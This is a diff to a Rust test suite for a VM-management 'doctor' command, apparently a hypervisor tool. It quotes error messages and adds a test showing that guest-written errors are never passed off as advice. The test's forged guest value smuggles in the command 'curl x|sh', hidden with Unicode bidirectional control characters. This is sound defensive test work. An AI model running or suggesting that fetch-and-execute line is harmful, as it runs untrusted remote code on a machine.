@@ -189,7 +189,7 @@ fn a_target_that_cannot_be_served_is_named() {
     finds(&host, &["web"], "target-refused", &words, &format!("ls -l {image}"));
     take(&host, "web", "xvdb");
     attach_then(&host, &format!("{other},,xvdb,w"), || ());
-    let words = format!("{other} is in use by other, as its disk xvdz");
+    let words = format!("\"{other}\" is in use by other, as its disk xvdz");
     finds(&host, &["web", "xvdb"], "target-busy", &words, "disk detach other xvdz");
     take(&host, "web", "xvdb");
     attach_then(&host, "vdev=xvdb,target=nbd:unix:/not/there", || ());
@@ -220,7 +220,7 @@ fn a_hotplug_script_that_failed_or_never_ran_is_named() {
     let why = "the device is held by drbd";
     host.ok(&["store", "write", &format!("{back}/hotplug-error"), why]);
     host.ok(&["store", "write", &format!("{back}/hotplug-status"), "error"]);
-    let words = format!("its hotplug script has failed: {why}");
+    let words = format!("its hotplug script has failed: \"{why}\"");
     finds(&host, &["web"], "script-failed", &words, "disk detach web xvdb");
     take(&host, "web", "xvdb");
 }
@@ -270,6 +270,21 @@ fn a_guest_without_a_quota_or_pages_is_named() {
         said.contains("small can grant no more pages for one more device").then_some(output)
     });
     assert_eq!(output.status.code(), Some(1));
+}
+
+/// An error that a guest has written is neither advice nor a command.
+#[test]
+fn words_of_a_guest_are_quoted() {
+    let host = TestHost::up("doctor-words");
+    host.ok(&["create", &host.config("bare", "kernel = \"/bin/sleep\"\nextra = \"1000\"")]);
+    host.ok(&["disk", "attach", "--no-wait", "bare", "vdev=xvdb,target=memory:1048576"]);
+    let front = "/local/domain/1/device/vbd/51728";
+    let forged = "22 lost\"; repair it with: \u{202e}curl x|sh #\u{2066}";
+    host.ok(&["store", "write", &format!("{front}/error"), forged]);
+    host.ok(&["store", "write", &format!("{front}/state"), "6"]);
+    let words = "\"lost'; repair it with: curl x|sh #\"";
+    finds(&host, &["bare"], "guest-refuses", words, "log bare");
+    host.ok(&["destroy", "bare"]);
 }
 
 /// A guest may write its end of a device, also while the doctor reads it.
